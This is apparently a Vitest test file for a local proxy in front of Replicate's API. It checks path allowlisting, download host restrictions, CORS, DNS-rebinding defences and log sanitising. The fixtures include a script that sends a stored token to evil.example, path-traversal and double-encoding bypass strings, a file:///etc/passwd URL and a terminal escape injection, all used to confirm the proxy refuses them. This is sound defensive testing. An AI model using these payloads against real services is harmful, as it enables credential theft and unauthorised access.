// The proxy in front of Replicate, over real loopback sockets: what it forwards (and how), and everything it refuses.
import { request, type IncomingMessage, type ServerResponse } from 'node:http';
import { connect, createServer as createHttp2Server } from 'node:http2';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createReplicateProxy, isHostAllowed } from '../../../src/server/replicate-proxy.ts';
import { FakeReplicate } from '../../helpers/fake-replicate.ts';
import { listen, type Loopback } from '../../helpers/loopback.ts';

const TOKEN = 'r8_proxytesttoken0123456789abcdefghijklmn';
const auth = { authorization: `Bearer ${TOKEN}` };

let fake: FakeReplicate;
let proxy: Loopback;
let hostile: Loopback; // an upstream that redirects, sets cookies, stalls
let elsewhere: Loopback; // a host nobody should reach through the proxy
let elsewhereHits = 0;
let tight: Loopback; // a proxy with small limits in front of the hostile upstream
const logs: string[] = [];
/** Downloads the hostile upstream holds open (by path): resolved when the proxy closes their connection. */
const held = new Map<string, Promise<void>>();

/** Resolves when `check` holds, looked at every 10 ms; rejects after `ms`. */
async function until(check: () => boolean, ms: number): Promise<void> {
  for (const end = Date.now() + ms; !check(); await new Promise((r) => setTimeout(r, 10))) {
    if (Date.now() > end) throw new Error(`not within ${ms} ms`);
  }
}

/** A browser that asks `path` through the proxy at `base` and goes away: after the first bytes of the answer, or once `gone` holds. */
function leaveEarly(base: string, path: string, gone?: () => boolean): Promise<void> {
  const { hostname, port } = new URL(base);
  return new Promise((resolve, reject) => {
    const req = request({ hostname, port, path, headers: auth }, (res) => res.once('data', () => req.destroy()));
    req.on('error', () => {}); // the request is destroyed on purpose
    req.on('close', () => resolve());
    if (gone) until(gone, 5000).then(() => req.destroy(), reject);
    req.end();
  });
}

/** The status of a request sent with its path exactly as written. */
function rawStatus(base: string, method: string, path: string): Promise<number> {
  const { hostname, port } = new URL(base);
  return new Promise((resolve, reject) => {
    const req = request({ hostname, port, method, path, headers: auth }, (res) => {
      res.resume();
      resolve(res.statusCode ?? 0);
    });
    req.on('error', reject);
    req.end();
  });
}

/** A request with the Host header as given (a browser sends the page's host: fetch cannot set it). */
function withHost(base: string, path: string, host: string, init: { method?: string; headers?: Record<string, string> } = {}): Promise<{ status: number; detail: string; cors: string | undefined }> {
  const { hostname, port } = new URL(base);
  return new Promise((resolve, reject) => {
    const req = request({ hostname, port, method: init.method ?? 'GET', path, headers: { ...auth, ...init.headers, host } }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => {
        const text = Buffer.concat(chunks).toString();
        const detail = res.headers['content-type']?.startsWith('application/problem+json') ? (JSON.parse(text) as { detail: string }).detail : '';
        const cors = res.headers['access-control-allow-origin'];
        resolve({ status: res.statusCode ?? 0, detail, cors: Array.isArray(cors) ? cors.join() : cors });
      });
    });
    req.on('error', reject);
    req.end();
  });
}

beforeAll(async () => {
  fake = await FakeReplicate.start({ token: TOKEN, outputZip: new Uint8Array([80, 75, 5, 6, ...new Array(18).fill(0)]) });
  proxy = await listen((req, res) => createReplicateProxy({ upstream: fake.apiBase, log: (l) => logs.push(l), allowOrigins: ['http://pages.example'] })(req, res, () => res.writeHead(404).end()));
  elsewhere = await listen((_req, res) => {
    elsewhereHits++;
    res.writeHead(200).end('secret internal page');
  });
  hostile = await listen((req, res) => {
    if (req.url === '/v1/account') return void res.writeHead(200, { 'content-type': 'application/json', 'set-cookie': 'session=abc' }).end('{"type":"user","username":"x"}');
    if (req.url === '/v1/trainings/redirect') return void res.writeHead(302, { location: `${elsewhere.url}/v1/trainings/redirect` }).end();
    if (req.url === '/delivery/redirect') return void res.writeHead(302, { location: `${elsewhere.url}/x.zip` }).end();
    if (req.url === '/v1/trainings/slow') return; // never answers
    if (req.url === '/delivery/endless' || req.url === '/delivery/silent') {
      // A download that goes on (the first KiB, then nothing) or never answers, until the proxy lets go of it.
      held.set(req.url, new Promise((resolve) => res.on('close', () => resolve())));
      if (req.url === '/delivery/endless') res.writeHead(200, { 'content-type': 'application/zip' }).write(new Uint8Array(1024));
      return;
    }
    // Anyone can make a file on Replicate's delivery hosts (a model's output): this one is a web page with a script.
    if (req.url === '/delivery/page.html') return void res.writeHead(200, { 'content-type': 'text/html' }).end('<script>fetch("//evil.example/?" + localStorage.getItem("finetune.remote.token"))</script>');
    res.writeHead(404).end();
  });
  const p = createReplicateProxy({ upstream: `${hostile.url}/v1`, maxJsonBytes: 1024, timeoutMs: 300, log: (l) => logs.push(l) });
  tight = await listen((req, res) => p(req, res, () => res.writeHead(404).end()));
});

afterAll(async () => {
  await Promise.all([fake.close(), proxy.close(), hostile.close(), elsewhere.close(), tight.close()]);
});

describe('forwarding', () => {
  it('forwards an allowlisted call with the Authorization header, and no cookies', async () => {
    const res = await fetch(`${proxy.url}/replicate/v1/account`, { headers: { ...auth, cookie: 'session=secret', 'x-other': '1' } });
    expect(res.status).toBe(200);
    expect(((await res.json()) as { username: string }).username).toBe('alice');
    const seen = fake.requests.at(-1)!;
    expect(seen).toMatchObject({ method: 'GET', path: '/v1/account', authorized: true });
    expect(seen.headerNames).not.toContain('cookie');
    expect(seen.headerNames).not.toContain('x-other');
  });

  it('passes Replicate\'s refusals through with their status and Retry-After', async () => {
    fake.failNext({ method: 'GET', path: /^\/trainings\/abc$/, status: 429, retryAfter: 7 });
    const res = await fetch(`${proxy.url}/replicate/v1/trainings/abc`, { headers: auth });
    expect(res.status).toBe(429);
    expect(res.headers.get('retry-after')).toBe('7');
  });

  it('never passes Set-Cookie back', async () => {
    const res = await fetch(`${tight.url}/replicate/v1/account`, { headers: auth });
    expect(res.status).toBe(200);
    expect(res.headers.get('set-cookie')).toBeNull();
  });

  it('never lets a relayed answer run as a page of this origin (where the page keeps the token)', async () => {
    // A link to the proxy's download route, opened as a page: no Origin, no token; the file is public.
    const page = await fetch(`${tight.url}/replicate/download?url=${encodeURIComponent(`${hostile.url}/delivery/page.html`)}`);
    expect(page.status).toBe(200);
    expect(await page.text()).toContain('<script>');
    for (const res of [page, await fetch(`${tight.url}/replicate/v1/account`, { headers: auth })]) {
      expect(res.headers.get('content-security-policy')).toMatch(/(^|;)\s*sandbox\s*(;|$)/);
      expect(res.headers.get('content-security-policy')).toMatch(/default-src 'none'/);
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    }
  });

  it('downloads outputs from the API\'s own origin with the token', async () => {
    // A succeeded training on the fake: its weights URL is on the fake's origin, like replicate.delivery for the real one.
    await fetch(`${proxy.url}/replicate/v1/models`, { method: 'POST', headers: { ...auth, 'content-type': 'application/json' }, body: JSON.stringify({ owner: 'alice', name: 'm', visibility: 'private', hardware: 'gpu-a100-large' }) });
    fake.script = { processingPolls: 1, outcome: 'succeeded' };
    const created = await fetch(`${proxy.url}/replicate/v1/models/mistralai/mistral-7b-instruct-v0.2/versions/79052a3adbba8116ebc6697dcba67ad0d58feff23e7aeb2f103fc9aa545f9269/trainings`, {
      method: 'POST',
      headers: { ...auth, 'content-type': 'application/json' },
      body: JSON.stringify({ destination: 'alice/m', input: { train_data: 'https://example.com/d.jsonl' } }),
    });
    expect(created.status).toBe(201);
    const { id } = (await created.json()) as { id: string };
    let t: { status: string; output?: { weights: string } } = { status: 'starting' };
    while (t.status !== 'succeeded') t = (await (await fetch(`${proxy.url}/replicate/v1/trainings/${id}`, { headers: auth })).json()) as typeof t;
    const res = await fetch(`${proxy.url}/replicate/download?url=${encodeURIComponent(t.output!.weights)}`, { headers: auth });
    expect(res.status).toBe(200);
    expect(new Uint8Array(await res.arrayBuffer())).toEqual(fake.options.outputZip);
    expect(fake.violations).toEqual([]);
  });
});

describe('refusals', () => {
  const refused = async (url: string, init?: RequestInit): Promise<{ status: number; detail: string }> => {
    const res = await fetch(url, init);
    const body = (await res.json()) as { detail: string };
    return { status: res.status, detail: body.detail };
  };

  it('refuses paths outside the allowlist with 403, without calling upstream', async () => {
    const before = fake.requests.length;
    const cases: [string, string][] = [
      ['GET', '/replicate/v1/predictions'],
      ['POST', '/replicate/v1/predictions'],
      ['GET', '/replicate/v1/files'],
      ['GET', '/replicate/v1/webhooks/default/secret'],
      ['POST', '/replicate/v1/trainings/abc'],
      ['GET', '/replicate/v1/trainings/abc/../../account'],
      ['GET', '/replicate/v1/trainings/..%2F..%2Faccount'],
      ['GET', '/replicate/v1/models/a/b/readme'],
      ['PUT', '/replicate/v1/account'],
      ['DELETE', '/replicate/v1/models/alice/m'],
      ['GET', '/replicate/v2/account'],
      ['GET', '/replicate/'],
    ];
    for (const [method, path] of cases) {
      // Raw requests: fetch would normalise "/../" away before it left.
      const status = await rawStatus(proxy.url, method, path);
      expect({ method, path, status }).toEqual({ method, path, status: 403 });
    }
    expect(fake.requests.length).toBe(before);
  });

  it('leaves other paths to the next handler', async () => {
    expect((await fetch(`${proxy.url}/index.html`)).status).toBe(404);
  });

  it('downloads only from Replicate\'s delivery hosts, over https', async () => {
    const bad = ['https://evil.example/x.zip', 'http://replicate.delivery/x.zip', 'https://replicate.delivery.evil.example/x.zip', 'https://user@replicate.delivery/x.zip', 'https://replicate.delivery:8443/x.zip', `${elsewhere.url}/x.zip`, 'file:///etc/passwd'];
    for (const u of bad) {
      const r = await refused(`${proxy.url}/replicate/download?url=${encodeURIComponent(u)}`, { headers: auth });
      expect({ u, status: r.status }).toEqual({ u, status: 403 });
    }
    expect((await fetch(`${proxy.url}/replicate/download`, { headers: auth })).status).toBe(400);
    expect((await fetch(`${proxy.url}/replicate/download?url=x`, { method: 'POST', headers: auth })).status).toBe(403);
    expect(elsewhereHits).toBe(0);
  });

  it('never downloads from the API itself on the upstream\'s origin (the token would go to any GET), however the path is spelled', async () => {
    const api = fake.apiBase; // http://127.0.0.1:PORT/v1
    const o = fake.url;
    const bad = [
      `${api}/webhooks/default/secret`,
      `${api}/account`,
      `${api}`,
      `${o}/v1`,
      `${o}/V1/account`,
      `${o}//v1/account`,
      `${o}/delivery/../v1/account`,
      `${o}/delivery/%2e%2e/v1/account`,
      `${o}/delivery/..%2Fv1/account`,
      `${o}/v1%2Fwebhooks/default/secret`,
      `${o}/%76%31/account`,
      `${o}/delivery/..%5Cv1/account`,
      `${o}/%zz/v1`,
      `${o}/delivery%3F%2F..%2Fv1/account`,
      `${o}/delivery%23/..%2Fv1/account`,
    ];
    const before = fake.requests.length;
    for (const u of bad) {
      const r = await refused(`${proxy.url}/replicate/download?url=${encodeURIComponent(u)}`, { headers: auth });
      expect({ u, status: r.status }).toEqual({ u, status: 403 });
    }
    expect(fake.requests.slice(before)).toEqual([]);
  });

  it('never downloads from the API on the upstream\'s origin as a server that decodes twice or drops ";" parameters reads the path', async () => {
    // Found by replicate-proxy-fuzz.test.ts: the path was decoded once, and "v1;" was not "v1". A server behind another
    // that decodes (or one that decodes twice) reads %2576 as "v"; servlet containers read "/v1;x/" as "/v1/".
    const o = fake.url;
    const bad = [`${o}/%2576%2531/account`, `${o}/%25761/webhooks/default/secret`, `${o}/delivery/..%252fv1/account`, `${o}/v1;/account`, `${o}/v1;x=1/trainings`, `${o}/delivery/..;/v1/account`, `${o}/v1%3b/account`];
    const before = fake.requests.length;
    for (const u of bad) {
      const res = await fetch(`${proxy.url}/replicate/download?url=${encodeURIComponent(u)}`, { headers: auth });
      await res.body?.cancel();
      expect({ u, status: res.status }).toEqual({ u, status: 403 });
    }
    expect(fake.requests.slice(before)).toEqual([]);
  });

  it('does not follow redirects to other hosts (API calls or downloads)', async () => {
    const api = await refused(`${tight.url}/replicate/v1/trainings/redirect`, { headers: auth });
    expect(api.status).toBe(502);
    expect(api.detail).toMatch(/redirect/);
    const dl = await refused(`${tight.url}/replicate/download?url=${encodeURIComponent(`${hostile.url}/delivery/redirect`)}`, { headers: auth });
    expect(dl.status).toBe(403);
    expect(dl.detail).toContain(new URL(elsewhere.url).host);
    expect(elsewhereHits).toBe(0);
  });

  it('refuses oversized bodies, declared or streamed, with 413', async () => {
    const big = JSON.stringify({ owner: 'alice', name: 'x'.repeat(2000), visibility: 'private', hardware: 'cpu' });
    expect((await refused(`${tight.url}/replicate/v1/models`, { method: 'POST', headers: { ...auth, 'content-type': 'application/json' }, body: big })).status).toBe(413);
    const chunks = new ReadableStream<Uint8Array>({
      start(c) {
        for (let i = 0; i < 4; i++) c.enqueue(new TextEncoder().encode('x'.repeat(500)));
        c.close();
      },
    });
    const streamed = await fetch(`${tight.url}/replicate/v1/models`, { method: 'POST', headers: { ...auth, 'content-type': 'application/json' }, body: chunks, duplex: 'half' } as RequestInit);
    expect(streamed.status).toBe(413);
  });

  it('gives up on an upstream that does not answer in time (504)', async () => {
    expect((await refused(`${tight.url}/replicate/v1/trainings/slow`, { headers: auth })).status).toBe(504);
  });

  it('lets go of the upstream download as soon as the browser goes away, long before the deadline', async () => {
    // tight's downloads may take 10 min: a download the browser left held Replicate's connection that long.
    const through = (path: string) => `/replicate/download?url=${encodeURIComponent(`${hostile.url}${path}`)}`;
    const closedSoon = (path: string) => Promise.race([held.get(path)!.then(() => 'closed'), new Promise((r) => setTimeout(() => r('still open after 2 s'), 2000))]);
    // Mid-body: the browser read the first bytes and closed the connection.
    await leaveEarly(tight.url, through('/delivery/endless'));
    expect(await closedSoon('/delivery/endless')).toBe('closed');
    // Before any answer: the browser left while the proxy waited for the upstream's headers.
    await leaveEarly(tight.url, through('/delivery/silent'), () => held.has('/delivery/silent'));
    expect(await closedSoon('/delivery/silent')).toBe('closed');
  });

  it('refuses pages from other origins unless allowed, and answers allowed ones with CORS', async () => {
    expect((await fetch(`${proxy.url}/replicate/v1/account`, { headers: { ...auth, origin: 'http://evil.example' } })).status).toBe(403);
    const pre = await fetch(`${proxy.url}/replicate/v1/account`, { method: 'OPTIONS', headers: { origin: 'http://pages.example' } });
    expect(pre.status).toBe(204);
    expect(pre.headers.get('access-control-allow-origin')).toBe('http://pages.example');
    const ok = await fetch(`${proxy.url}/replicate/v1/account`, { headers: { ...auth, origin: 'http://pages.example' } });
    expect(ok.status).toBe(200);
    expect(ok.headers.get('access-control-allow-origin')).toBe('http://pages.example');
    // A refusal reaches an allowed page readable (the page tells the user why); a disallowed one gets no CORS at all.
    const refusedButReadable = await fetch(`${proxy.url}/replicate/download`, { headers: { origin: 'http://pages.example' } });
    expect(refusedButReadable.status).toBe(400);
    expect(refusedButReadable.headers.get('access-control-allow-origin')).toBe('http://pages.example');
    const other = await fetch(`${proxy.url}/replicate/download`, { headers: { origin: 'http://evil.example' } });
    expect(other.status).toBe(403);
    expect(other.headers.get('access-control-allow-origin')).toBeNull();
    const same = await fetch(`${proxy.url}/replicate/v1/account`, { headers: { ...auth, origin: proxy.url } });
    expect(same.status).toBe(200);
  });

  it('names a refused Origin quoted, so that its control characters reach neither the log nor the page as they are', async () => {
    // Found by replicate-proxy-fuzz.test.ts: a header's bytes past ASCII are read as latin1, and \u009b (CSI, which
    // starts a terminal's sequences) went into the refusal and the log line as it came.
    const host = `127.0.0.1:${new URL(proxy.url).port}`;
    const before = logs.length;
    const odd = await withHost(proxy.url, '/replicate/v1/account', host, { headers: { origin: 'http://e\u009b[2Jvil.example' } });
    expect(odd).toMatchObject({ status: 403, detail: 'pages from "http://e\\u009b[2Jvil.example" may not use this proxy' });
    await until(() => logs.length > before, 1000);
    expect(logs.slice(before).join('\n')).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
    const plain = await withHost(proxy.url, '/replicate/v1/account', host, { headers: { origin: 'http://evil.example' } });
    expect(plain.detail).toBe('pages from "http://evil.example" may not use this proxy (start it with --allow-origin http://evil.example to allow them)');
  });

  it('says it is there at /replicate/hello (no Replicate call, no token needed), to allowed pages only', async () => {
    const before = fake.requests.length;
    const hello = await fetch(`${proxy.url}/replicate/hello`, { headers: { origin: 'http://pages.example' } });
    expect(hello.status).toBe(200);
    expect(await hello.json()).toEqual({ proxy: 'finetune', api: '/replicate/v1', download: '/replicate/download' });
    expect(hello.headers.get('access-control-allow-origin')).toBe('http://pages.example');
    expect(fake.requests.length).toBe(before);
    expect((await fetch(`${proxy.url}/replicate/hello`, { headers: { origin: 'http://evil.example' } })).status).toBe(403);
    expect((await fetch(`${proxy.url}/replicate/hello`, { method: 'POST' })).status).toBe(403);
    expect((await fetch(`${proxy.url}/replicate/hello/x`)).status).toBe(403);
  });

  it('logs one line per request and never the token', async () => {
    expect(logs.length).toBeGreaterThan(10);
    expect(logs.some((l) => l.includes('/replicate/v1/account'))).toBe(true);
    expect(logs.filter((l) => l.includes(TOKEN) || l.includes(TOKEN.slice(3)))).toEqual([]);
  });
});

describe('the Host header (DNS rebinding)', () => {
  // A page on evil.example whose name is made to resolve to 127.0.0.1 after it loaded: its requests reach the proxy
  // with the page's own name as Host, and an Origin that matches it, so they look same-origin.
  const rebound = { host: 'evil.example:5173', origin: 'http://evil.example:5173' };

  it('refuses a request whose Host is not this machine\'s, even when its Origin matches it, without calling upstream', async () => {
    const before = fake.requests.length;
    for (const [method, path] of [
      ['GET', '/replicate/v1/account'],
      ['GET', '/replicate/hello'],
      ['GET', `/replicate/download?url=${encodeURIComponent(`${fake.url}/delivery/x.zip`)}`],
      ['OPTIONS', '/replicate/v1/account'],
      ['POST', '/replicate/v1/trainings/abc/cancel'],
    ]) {
      const r = await withHost(proxy.url, path, rebound.host, { method, headers: { origin: rebound.origin } });
      expect({ method, path, status: r.status, cors: r.cors }).toEqual({ method, path, status: 403, cors: undefined });
      expect(r.detail).toContain('"evil.example:5173"');
      expect(r.detail).toContain('--allow-host evil.example');
    }
    // No Origin at all (a link opened as a page, or a simple GET): the same.
    expect((await withHost(proxy.url, '/replicate/v1/account', rebound.host)).status).toBe(403);
    expect(fake.requests.length).toBe(before);
  });

  it('lets loopback names and addresses through with any port, preflight included', async () => {
    for (const host of ['localhost:5173', 'LocalHost', 'app.localhost:4173', '127.0.0.1:4173', '127.1.2.3', '[::1]:5173']) {
      const origin = `http://${host}`;
      expect({ host, status: (await withHost(proxy.url, '/replicate/v1/account', host, { headers: { origin } })).status }).toEqual({ host, status: 200 });
      expect({ host, status: (await withHost(proxy.url, '/replicate/hello', host)).status }).toEqual({ host, status: 200 });
      expect({ host, status: (await withHost(proxy.url, '/replicate/v1/account', host, { method: 'OPTIONS', headers: { origin } })).status }).toEqual({ host, status: 204 });
    }
    // Names that only look like loopback are not.
    for (const host of ['localhost.evil.example', '127.0.0.1.evil.example', 'evil-localhost', '128.0.0.1:5173', '[::2]:5173', '[::1', 'localhost:5173:1']) {
      expect({ host, status: (await withHost(proxy.url, '/replicate/hello', host)).status }).toEqual({ host, status: 403 });
    }
  });

  it('lets the hosts the operator allowed through (a name, or a name and its subdomains), and still no other', async () => {
    const lan = await listen((req, res) => createReplicateProxy({ upstream: fake.apiBase, allowHosts: ['Box.lan', '.home.arpa', '[fd00::5]'] })(req, res, () => res.writeHead(404).end()));
    try {
      for (const host of ['box.lan:4173', 'BOX.LAN', 'home.arpa:80', 'pc.home.arpa:4173', '[fd00::5]:4173', 'localhost:4173']) {
        const r = await withHost(lan.url, '/replicate/v1/account', host, { headers: { origin: `http://${host}` } });
        expect({ host, status: r.status }).toEqual({ host, status: 200 });
        const pre = await withHost(lan.url, '/replicate/v1/account', host, { method: 'OPTIONS', headers: { origin: `http://${host}` } });
        expect({ host, status: pre.status }).toEqual({ host, status: 204 });
      }
      for (const host of ['box.lan.evil.example', 'xbox.lan', 'evilhome.arpa', 'evil.example:4173']) {
        const r = await withHost(lan.url, '/replicate/v1/account', host, { method: 'OPTIONS', headers: { origin: `http://${host}` } });
        expect({ host, status: r.status }).toEqual({ host, status: 403 });
      }
    } finally {
      await lan.close();
    }
    expect(() => createReplicateProxy({ allowHosts: ['http://box.lan/'] })).toThrow(/allowed host "http:\/\/box\.lan\/" is not a host name/);
  });

  it('reads the host of an HTTP/2 request from :authority (Vite\'s https dev server speaks HTTP/2)', async () => {
    const p = createReplicateProxy({ upstream: fake.apiBase });
    // Node's HTTP/2 compatibility API hands the handler objects shaped like node:http's.
    const h2 = createHttp2Server((req, res) => p(req as unknown as IncomingMessage, res as unknown as ServerResponse, () => res.writeHead(404).end()));
    await new Promise<void>((resolve) => h2.listen(0, '127.0.0.1', resolve));
    const session = connect(`http://127.0.0.1:${(h2.address() as AddressInfo).port}`);
    const status = (authority: string) =>
      new Promise<number>((resolve, reject) => {
        const stream = session.request({ ':method': 'GET', ':path': '/replicate/hello', ':authority': authority });
        stream.on('response', (headers) => resolve(Number(headers[':status'])));
        stream.on('error', reject);
        stream.resume();
        stream.end();
      });
    try {
      expect(await status('evil.example:5173')).toBe(403);
      expect(await status('localhost:5173')).toBe(200);
    } finally {
      session.close();
      await new Promise((r) => h2.close(r));
    }
  });

  it('lets an IP address through when it is the one the request reached this server on', () => {
    expect(isHostAllowed('192.168.1.5:4173', { localAddress: '192.168.1.5' })).toBe(true);
    expect(isHostAllowed('192.168.1.5', { localAddress: '::ffff:192.168.1.5' })).toBe(true);
    expect(isHostAllowed('[fd00::1]:4173', { localAddress: 'fd00:0:0::1' })).toBe(true);
    expect(isHostAllowed('192.168.1.6:4173', { localAddress: '192.168.1.5' })).toBe(false);
    expect(isHostAllowed('192.168.1.5:4173', {})).toBe(false);
    expect(isHostAllowed('box.lan:4173', { localAddress: '192.168.1.5' })).toBe(false);
    expect(isHostAllowed(undefined, { localAddress: '127.0.0.1' })).toBe(false);
    expect(isHostAllowed('', { localAddress: '127.0.0.1' })).toBe(false);
  });

  // A fully qualified name's trailing dot names the same host: refused, the hint said --allow-host localhost., which
  // the server refuses to start with.
  it('reads a name with its trailing dot as the name itself, and takes --allow-host for it', () => {
    expect(isHostAllowed('localhost.:5173', {})).toBe(true);
    expect(isHostAllowed('app.localhost.', {})).toBe(true);
    expect(isHostAllowed('box.lan.:4173', { allowHosts: ['box.lan'] })).toBe(true);
    expect(isHostAllowed('box.lan:4173', { allowHosts: ['box.lan.'] })).toBe(true);
    expect(isHostAllowed('a.home.arpa.', { allowHosts: ['.home.arpa'] })).toBe(true);
    // Still only the names allowed: another's trailing dot is no way in, nor a name of dots.
    expect(isHostAllowed('evil.example.:5173', { allowHosts: ['box.lan'] })).toBe(false);
    expect(isHostAllowed('localhost..', {})).toBe(false);
    expect(isHostAllowed('.', {})).toBe(false);
    expect(() => isHostAllowed('x', { allowHosts: ['box.lan..'] })).toThrow(/is not a host name/);
  });
});

// What fetch rejects with is the platform's (undici's TypeError with a cause, an AbortSignal's reason, whatever a
// custom fetch throws): `(e as Error).message` made "Replicate could not be reached (undefined)" of a string, and of
// null a TypeError inside the handler, which left the browser's request unanswered.
describe('an upstream fetch that rejects with a value that is not an Error', () => {
  it.each([
    ['a string', 'socket hang up', 'socket hang up'],
    ['null', null, 'null'],
  ])('thrown as %s, is a 502 that says it in words', async (_what, thrown, words) => {
    const rejecting = createReplicateProxy({ upstream: 'http://upstream.invalid/v1', fetch: () => Promise.reject(thrown), log: () => {} });
    const server = await listen((req, res) => rejecting(req, res, () => res.writeHead(404).end()));
    try {
      const res = await fetch(`${server.url}/replicate/v1/account`, { headers: auth, signal: AbortSignal.timeout(5000) });
      expect(res.status).toBe(502);
      expect(((await res.json()) as { detail: string }).detail).toBe(`Replicate could not be reached (${words})`);
    } finally {
      await server.close();
    }
  });
});
